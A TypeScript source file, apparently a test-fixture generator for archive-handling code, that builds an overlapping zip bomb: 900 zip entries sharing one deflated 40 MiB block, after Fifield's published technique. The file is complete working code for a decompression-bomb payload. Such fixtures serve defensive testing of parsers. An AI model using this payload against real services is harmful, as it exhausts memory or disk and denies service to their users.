import { crc32, deflateRawSync } from 'node:zlib'
import { u16, u32 } from '@exuvia/crafted-archives'

/** A zip whose 900 entries all share one piece of compressed data (Fifield, "A better zip bomb", 2019). */
export function overlappingBomb(): Buffer {
  const content = Buffer.alloc(40 * 1024 * 1024)
  const packed = deflateRawSync(content, { level: 9 })
  const fields = Buffer.concat([
    u16(20, 0, 8, 0, 0x21),
    u32(crc32(content), packed.length, content.length),
    u16(1, 0),
  ])
  const local = Buffer.concat([u32(0x04034b50), fields, Buffer.from('a'), packed])
  const records = Array.from({ length: 900 }, (_, index) => {
    const name = Buffer.from(`entry${index}`)
    return Buffer.concat([
      u32(0x02014b50),
      u16(0x0314, 20, 0, 8, 0, 0x21),
      u32(crc32(content), packed.length, content.length),
      u16(name.length, 0, 0, 0, 0),
      u32(0, 0),
      name,
    ])
  })
  const directory = Buffer.concat(records)
  const end = Buffer.concat([
    u32(0x06054b50),
    u16(0, 0, 900, 900),
    u32(directory.length, local.length),
    u16(0),
  ])
  return Buffer.concat([local, directory, end])
}
